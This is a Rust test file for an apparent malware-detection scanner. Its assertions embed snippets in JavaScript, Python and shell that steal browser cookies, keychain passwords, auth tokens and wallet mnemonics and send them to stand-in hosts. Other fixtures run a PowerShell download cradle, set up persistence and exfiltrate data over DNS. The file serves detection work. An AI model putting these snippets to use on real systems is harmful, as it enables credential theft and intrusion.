//! What a value may be, what commands print, and what is shown to somebody else than who it is for.

use super::reached::{has, has_not};
use super::*;
use crate::model::Severity;

fn data(language: Language, code: &str) -> Labels {
    event(&outcome(language, code), Act::Send).data
}

#[test]
fn what_may_be_something_is_not_nothing() {
    let code = "const fs = require('fs'), os = require('os');\n\
                function plain(v) { try { return v.open(); } catch { return null; } }\n\
                const all = fs.readFileSync(os.homedir() + '/.config/google-chrome/Default/Cookies').rows();\n\
                const kept = [[1, plain(all)]].filter((row) => row[1]);\n\
                fetch('https://h.invalid/k', { method: 'POST', body: JSON.stringify(kept) });";
    assert!(data(Language::JavaScript, code).any(Labels::BROWSER));
    let none = code.replace("return v.open();", "return null;");
    assert!(!data(Language::JavaScript, &none).any(Labels::BROWSER));
}

#[test]
fn helpers_of_small_scripts_are_gone_through_for_all_their_callers() {
    let many: String = (0..12).map(|n| format!("take(os.homedir() + '/notes-{n}');\n")).collect();
    let code = format!(
        "const fs = require('fs'), os = require('os');\nfunction take(place) {{ return fs.readFileSync(place); }}\n{many}\
         const last = take(os.homedir() + '/.config/google-chrome/Default/Cookies');\n\
         fetch('https://h.invalid/k', {{ method: 'POST', body: last }});"
    );
    assert!(data(Language::JavaScript, &code).any(Labels::BROWSER));
}

#[test]
fn commands_for_powershell_are_read_in_its_own_letters() {
    let code = |coding: &str| {
        format!(
            "const line = \"IEX (New-Object Net.WebClient).DownloadString('https://h.invalid/s')\";\n\
             require('child_process').execFile('powershell.exe', ['-NoProfile', '-EncodedCommand', Buffer.from(line, '{coding}').toString('base64')]);"
        )
    };
    has(Language::JavaScript, &code("utf16le"), "flow-remote-code");
    has_not(Language::JavaScript, &code("utf8"), "flow-remote-code");
}

#[test]
fn what_a_function_of_a_shell_prints_is_what_it_gives() {
    let code = |way: &str| {
        format!(
            "look() {{\n  local n v\n  for n in one two; do\n    v=$(security find-generic-password -w -s \"$n\") && {way}\n  done\n}}\n\
             curl -fsS --data-urlencode \"c=$(look)\" https://h.invalid/n\n"
        )
    };
    assert!(data(Language::Shell, &code("echo \"$n=$v\"")).any(Labels::CREDENTIALS));
    assert!(data(Language::Shell, &code("printf '%s=%s\\n' \"$n\" \"$v\"")).any(Labels::CREDENTIALS));
    assert!(!data(Language::Shell, &code("echo \"$n\"")).any(Labels::CREDENTIALS));
}

#[test]
fn printf_puts_words_where_its_format_says() {
    let line = |command: &str| {
        let code = format!("T=${{TOOL_HOME:-$HOME/.tool}}\n{command} >> \"$HOME/.profile\"\n");
        let outcome = outcome(Language::Shell, &code);
        let flows = flows::judge(&outcome, false);
        flows.iter().find(|f| f.rule.id == "flow-persists").map(|f| f.severity.unwrap_or(f.rule.severity))
    };
    assert!(line("printf 'export PATH=\"%s/bin:$PATH\"\\n' \"$T\"") <= Some(Severity::Medium));
    assert!(line("printf '%s\\n' \"nohup $T/x &\"") >= Some(Severity::High));
    assert_eq!(
        crate::analyze::script::fold::text::printed("a%sb%%%d|", &["1".into(), "2".into(), "3".into()]),
        "a1b%2|a3b%|"
    );
}

#[test]
fn how_a_command_ended_is_not_what_it_printed() {
    let code = "import subprocess, requests\nended = subprocess.call(['make'])\nrequests.post('https://h.invalid/e', data=str(ended))\n";
    has_not(Language::Python, code, "flow-output-sent");
    has(Language::Python, &code.replace("call(", "check_output("), "flow-output-sent");
}

#[test]
fn folders_of_an_archive_are_in_it() {
    let code = "const fs = require('fs'), os = require('os'), Zip = require('jszip');\nconst zip = new Zip();\n\
                const fill = (into, place) => into.file('c', fs.readFileSync(place));\n\
                fill(zip.folder('p'), os.homedir() + '/.config/google-chrome/Default/Cookies');\n\
                zip.generateAsync({ type: 'nodebuffer' }).then((all) => fetch('https://h.invalid/z', { method: 'POST', body: all }));";
    assert!(data(Language::JavaScript, code).any(Labels::BROWSER));
    assert!(!data(Language::JavaScript, &code.replace("into.file(", "console.log(")).any(Labels::BROWSER));
}

#[test]
fn what_lets_somebody_in_is_shown_to_whom_it_is_for() {
    let weighs = |file: &str, host: &str| {
        let code = format!(
            "import os, requests\ndef plan():\n    held = open(os.path.expanduser('~/{file}')).read()\n    \
             return requests.post('https://{host}/v1', data=held).json()\n"
        );
        let outcome = outcome(Language::Python, &code);
        let flows = flows::judge(&outcome, false);
        let found = flows.iter().find(|f| f.rule.id == "flow-credentials-sent");
        found.map(|f| (f.severity.unwrap_or(f.rule.severity), f.brake.is_some()))
    };
    assert_eq!(weighs(".codex/auth.json", "plans.invalid"), Some((Severity::High, true)));
    assert!(weighs(".codex/auth.json", "api.openai.com").is_none_or(|(severity, _)| severity < Severity::High));
    assert!(weighs(".codex/auth.json", "notopenai.com") >= Some((Severity::High, true)));
    // Registries are where anybody sets them up.
    assert!(weighs(".npmrc", "registry.invalid").is_none_or(|(severity, _)| severity < Severity::High));
}

#[test]
fn what_a_request_says_is_not_for_a_bot_in_the_code() {
    let code = |to: &str| {
        format!(
            "const https = require('https');\nmodule.exports = (req, res, next) => {{\n  \
             const ask = https.request({to}, {{ method: 'POST' }});\n  ask.end(JSON.stringify({{ chat_id: 1, text: JSON.stringify(req.body) }}));\n  next();\n}};"
        )
    };
    let fixed = "'https://api.telegram.org/bot5550001112:AAinert_inert-inert_inert-inert_ine/sendMessage'";
    has(Language::JavaScript, &code(fixed), "flow-request-told");
    has_not(
        Language::JavaScript,
        &code("`https://api.telegram.org/bot${process.env.BOT}/sendMessage`"),
        "flow-request-told",
    );
    has_not(Language::JavaScript, &code("'https://api.shop.invalid/orders'"), "flow-request-told");
}

#[test]
fn a_digest_of_what_a_program_printed_is_none_of_the_proxy_it_went_through() {
    let code = "const cp = require('child_process'), crypto = require('crypto');\nconst args = ['-fsSL'];\n\
                const proxy = process.env.HTTPS_PROXY;\nif (proxy) { args.push('--proxy', proxy); }\nargs.push('https://h.invalid/t.tgz');\n\
                const got = require('zlib').gunzipSync(cp.execFileSync('curl', args));\n\
                const is = crypto.createHash('sha256').update(got).digest('hex');\n\
                if (is !== require('./sums.json').linux) { throw new Error(is); }";
    let hides = |code: &str| {
        let outcome = outcome(Language::JavaScript, code);
        outcome.choices.iter().any(crate::analyze::script::covert::Choice::is_by_hidden_list)
    };
    assert!(!hides(code));
    let listed = "const is = require('crypto').createHash('sha256').update(process.env.HTTPS_PROXY).digest('hex');\n\
                  if (['9f86d081884c7d659a2feaa0c55ad015'].includes(is)) { mark(); }";
    assert!(hides(listed));
}

#[test]
fn surroundings_and_a_hidden_list_stand_on_two_sides() {
    let among = |code: &str| {
        let outcome = outcome(Language::JavaScript, code);
        outcome.choices.iter().any(crate::analyze::script::covert::Choice::is_by_hidden_list_among)
    };
    let zone = "const z = Intl.DateTimeFormat().resolvedOptions().timeZone;\n";
    for test in ["atob('UmVnaW9uL0NpdHk=') === z", "atob('UmVnaW9uL0NpdHk=').split(',').includes(z)", "l().has(z)"] {
        let code = format!(
            "{zone}function l() {{ return new Set(atob('UmVnaW9uL0NpdHk=').split(',')); }}\nif ({test}) {{ mark(); }}"
        );
        assert!(among(&code), "{test}");
    }
    // One value that may be either says nothing.
    assert!(!among(&format!("{zone}const v = head ? atob('UmVnaW9uL0NpdHk=') : z;\nif (v.match(/x/)) {{ mark(); }}")));
}

#[test]
fn pages_about_a_service_are_not_what_it_starts() {
    let weighs = |line: &str| {
        let code = format!(
            "import os\nUNIT = os.path.expanduser('~/.config/systemd/user/inert.service')\n\
             def set_up():\n    with open(UNIT, 'w') as f:\n        f.write('[Unit]\\n{line}\\n[Service]\\nExecStart=python3 ' + os.path.abspath(__file__))\n\
             def take_away():\n    os.remove(UNIT)\n"
        );
        let outcome = outcome(Language::Python, &code);
        let flows = flows::judge(&outcome, false);
        flows.iter().find(|f| f.rule.id == "flow-persists").map(|f| f.severity.unwrap_or(f.rule.severity))
    };
    assert!(weighs("Documentation=https://inert.invalid/docs") <= Some(Severity::Medium));
    assert!(weighs("ExecStartPre=/bin/sh -c \"curl https://inert.invalid/x\"") >= Some(Severity::High));
}

#[test]
fn who_starts_with_the_session_for_its_caller_and_takes_it_away_again() {
    let code = "const { execFile } = require('child_process');\nconst KEY = 'HKCU\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run';\n\
                exports.enable = (name, exe) => execFile('reg', ['add', KEY, '/v', name, '/d', exe, '/f']);\n";
    let weighs = |code: &str| {
        let outcome = outcome(Language::JavaScript, code);
        let flows = flows::judge(&outcome, false);
        flows.iter().filter(|f| f.rule.id == "flow-persists").map(|f| f.severity.unwrap_or(f.rule.severity)).max()
    };
    let off = "exports.disable = (name) => execFile('reg', ['delete', KEY, '/v', name, '/f']);\n";
    assert_eq!(weighs(code), Some(Severity::Medium));
    assert!(weighs(&format!("{code}{off}")) <= Some(Severity::Low));
}

#[test]
fn what_callers_put_into_a_queue_comes_out_of_it() {
    let code = "import queue, threading, urllib.request\ndef tell(words, n):\n    \
                urllib.request.urlopen('https://lists.invalid/w', data=words.encode(), timeout=4)\n\
                HEARS = {'made': [tell]}\nq = queue.Queue()\ndef note(what, *args):\n    for f in HEARS.get(what, ()):\n        q.put_nowait((f, args))\n\
                def work():\n    while True:\n        f, args = q.get()\n        f(*args)\n\
                threading.Thread(target=work, daemon=True).start()\n\
                def from_mnemonic(words, salt=''):\n    note('made', ' '.join(words.split()), 12)\n    return salt\n";
    has(Language::Python, code, "flow-key-sent");
    assert_eq!(event(&outcome(Language::Python, code), Act::Send).when, When::Called);
    has_not(Language::Python, &code.replace("from_mnemonic", "from_lines"), "flow-key-sent");
}

#[test]
fn a_helper_that_reads_for_many_reads_code_for_somebody() {
    let code = |executed: &str| {
        format!(
            "import os\ndef read(name):\n    with open(name, 'r') as f:\n        return f.read()\nabout = read('ABOUT.dat')\n\
             exec(read(os.path.join('tool', '{executed}')))\n"
        )
    };
    has(Language::Python, &code("names.dat"), "flow-executes-data-file");
    has_not(Language::Python, &code("names.py"), "flow-executes-data-file");
}

#[test]
fn lists_of_addresses_are_asked_by_names() {
    let code = |domain: &str| {
        format!(
            "import socket\ndef check(ip):\n    name = '.'.join(reversed(ip.split('.')))\n    try:\n        \
             socket.getaddrinfo(f'{{name}}.{domain}', 0)\n    except OSError:\n        pass\n"
        )
    };
    has(Language::Python, &code("told.vendor.invalid"), "flow-dns-exfiltration");
    has_not(Language::Python, &code("zen.spamhaus.org"), "flow-dns-exfiltration");
    has(Language::Python, &code("notspamhaus.org.vendor.invalid"), "flow-dns-exfiltration");
}
